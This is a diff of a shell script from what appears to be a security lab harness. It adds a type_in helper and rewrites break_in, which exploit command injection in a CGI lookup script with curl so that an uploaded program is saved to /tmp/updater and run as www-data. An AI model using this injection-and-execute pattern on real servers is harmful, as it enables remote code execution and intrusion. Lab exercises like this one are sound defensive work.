@@ -28,15 +28,23 @@ alert() {
 		fail "$1 does not answer"
 }
 
-# break_in GUEST: its role is web. The CGI script puts what the visitor typed into a
-# shell command. So: a shell as www-data, which saves the request's body as a
-# program and runs it.
+# type_in GUEST COMMAND CURL-OPTION...: its role is web. The CGI script puts what the
+# visitor typed into a shell command.
+type_in() {
+	local guest=$1 typed
+	typed=$(jq -rn --arg text "x; $2" '$text | @uri')
+	shift 2
+	curl -sS -m 20 "$@" "http://$(guest_ip "$guest")/cgi-bin/lookup.cgi?host=$typed" \
+		>>"$OUT/intruder.answer" 2>&1 &
+}
+
+# break_in GUEST [ARGUMENT...]: so a shell as www-data, which saves the request's body
+# as a program and runs it
 break_in() {
-	local program=/tmp/updater typed
-	typed=$(jq -rn --arg text "x; cat >$program; chmod 700 $program; $program" '$text | @uri')
-	curl -sS -m 20 --data-binary @/lab/attacks/intruder \
-		"http://$(guest_ip "$1")/cgi-bin/lookup.cgi?host=$typed" \
-		>"$OUT/intruder.answer" 2>&1 &
+	local guest=$1 program=/tmp/updater
+	shift
+	type_in "$guest" "cat >$program; chmod 700 $program; $program $*" \
+		--data-binary @/lab/attacks/intruder
 }
 
 # evidence_keys KEY PUBLIC: made for the lab, and good for nothing else
